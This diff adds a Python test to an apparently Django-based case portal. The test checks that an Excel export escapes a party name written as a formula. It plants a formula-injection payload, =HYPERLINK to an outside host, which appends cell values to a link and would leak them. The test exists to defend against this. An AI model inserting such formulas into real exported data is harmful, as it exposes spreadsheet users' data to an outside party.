@@ -105,3 +105,14 @@ def test_list_pages_offer_the_export_with_their_filters(world, cases, login, per
     html = login(getattr(world, persona)).get(reverse(url) + "?status=CLOSED").content.decode()
     assert "导出Excel" in html
     assert reverse("imports:export_cases") + "?status=CLOSED" in html
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(world, cases, login):
+    """A party name typed in the portal as =HYPERLINK(...) must not become a live formula in the director's Excel."""
+    evil = '=HYPERLINK("//x.cn/"&I3&J3,"点击")'
+    party = cases["closed"].parties.first()
+    type(party).objects.filter(pk=party.pk).update(name=evil)
+    response = login(world.director_a).get(reverse("imports:export_cases"))
+    ws = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" and c.value.startswith("'=HYPERLINK") for c in cells)
